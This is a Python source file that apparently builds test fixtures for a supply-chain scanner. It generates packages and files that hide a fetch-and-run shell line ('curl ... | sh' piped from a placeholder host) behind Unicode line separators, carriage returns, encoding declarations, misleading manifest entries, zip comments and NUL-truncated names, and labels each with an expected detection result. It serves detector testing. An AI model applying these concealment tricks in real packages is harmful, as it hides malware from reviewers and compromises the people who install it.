"""What the program that runs it takes for code, and who looks takes for a comment, for data or for another file."""

from hostile import MARKER, ORDINARY_JS, hostile
from hostile_zip import Entry, package, zip_of
from ordinary import PACKAGE

ORDINARY_PY = b"def add(a, b):\n    return a + b\n"
FETCH = b"curl -fsSL https://cdn.sample-static.example/s | sh"
RUN_PY = b"import os\nos.system('" + FETCH + b"')\n"


# ---- lines that end where others see none ----------------------------------------------------------------------------

@hostile(97, "line-separator.js", inspect="review|tampered: AS-0042", diff="tampered: AS-0042")
def line_separator():
    """U+2028 ends a line of JavaScript, and with it a comment."""
    return ORDINARY_JS + b"// adds" + MARKER.replace(b"\n", "\u2028".encode()) + b"\n"


@hostile(97, "carriage-returns.js", inspect="review|tampered: AS-0042", diff="tampered: AS-0042")
def js_returns():
    return ORDINARY_JS + b"// adds" + MARKER.replace(b"\n", b"\r") + b"\n"


@hostile(97, "carriage-returns.py", inspect="review|tampered: AS-0001", diff="tampered: AS-0001")
def py_returns():
    return ORDINARY_PY + b"# adds\r" + RUN_PY.replace(b"\n", b"\r") + b"\n"


# ---- letters that do not stand for themselves -------------------------------------------------------------------------

def escaped(name, line_feed):
    return b"# coding: " + name + b"\n" + ORDINARY_PY + b"# adds" + (b"\n" + RUN_PY).replace(b"\n", line_feed) + b"\n"


@hostile(97, "unicode-escape.py", inspect="clean|review: AS-0012", diff="review: AS-0012")
def unicode_escape():
    return escaped(b"Unicode-Escape", b"\\x0a")


@hostile(97, "raw-unicode-escape.py", inspect="clean|review: AS-0012", diff="review: AS-0012")
def raw_unicode_escape():
    """On the second line, behind a blank one and another word that holds "coding"."""
    return b"\n# decoding, coding: raw_unicode_escape\n" + escaped(b"", b"\\u000a").partition(b"\n")[2]


# ---- files whose names do not say that something runs them --------------------------------------------------------------

def named(manifest, *files):
    return zip_of([Entry(b"package/package.json", b'{"name": "sample", "version": "1.0.1", ' + manifest + b"}\n"),
                   Entry(b"package/index.js", ORDINARY_JS)] + [Entry(b"package/" + name, data) for name, data in files])


@hostile(97, "main-is-a-style-sheet.zip", inspect="review|tampered: AS-0042", diff="tampered: AS-0042")
def main_style():
    return named(b'"main": "style.css"', (b"style.css", ORDINARY_JS + MARKER))


@hostile(97, "main-of-a-folder.zip", inspect="review|tampered: AS-0042", diff="tampered: AS-0042")
def main_folder():
    return named(b'"main": "dist"', (b"dist/package.json", b'{"main": "data.bin"}'), (b"dist/data.bin", ORDINARY_JS + MARKER))


@hostile(97, "exports-a-picture.zip", inspect="review|tampered: AS-0042", diff="tampered: AS-0042")
def exports_picture():
    return named(b'"exports": {".": {"node": "./logo.svg", "default": "./index.js"}}', (b"logo.svg", ORDINARY_JS + MARKER))


@hostile(97, "requires-a-text.zip", inspect="clean|review|tampered", diff="tampered: AS-0042")
def requires_text():
    return zip_of([Entry(b"package/package.json", PACKAGE, 8), Entry(b"package/index.js", ORDINARY_JS + b"require('./notes.md');\n"),
                   Entry(b"package/notes.md", MARKER)])


@hostile(97, "node-runs-a-map.zip", inspect="review|tampered: AS-0042", diff="tampered: AS-0042")
def node_map():
    """What begins like a script of a shell is JavaScript to node."""
    return named(b'"scripts": {"postinstall": "node lib/a.js.map"}', (b"lib/a.js.map", b"#!/bin/sh\n" + MARKER))


@hostile(97, "shell-runs-a-script.zip", inspect="review|tampered: AS-0001", diff="tampered: AS-0001")
def shell_js():
    """And what is called like JavaScript is none to a shell."""
    return named(b'"scripts": {"postinstall": "sh lib/a.js"}', (b"lib/a.js", FETCH + b"\n"))


@hostile(97, "python-runs-data.zip", inspect="review|tampered: AS-0001", diff="tampered: AS-0001")
def python_data():
    return named(b'"scripts": {"postinstall": "python3 -u lib/table.csv"}', (b"lib/table.csv", RUN_PY))


# ---- files that are two things, or have two names ----------------------------------------------------------------------

@hostile(97, "archive-in-its-comment.zip", inspect="review|tampered: AS-0042", diff="tampered: AS-0042, text -> zip")
def script_and_archive():
    inner = package([Entry(b"a.txt", b"nothing\n")])
    return zip_of([Entry(b"package/package.json", PACKAGE, 8), Entry(b"package/index.js", ORDINARY_JS + MARKER + b"/*" + inner)])


@hostile(97, "name-up-to-nul.zip", inspect="review|tampered: AS-0042, name-with-nul", diff="tampered: AS-0042, name-with-nul")
def name_with_nul():
    return package([Entry(b"package/index.js\0.md", ORDINARY_JS + MARKER)])
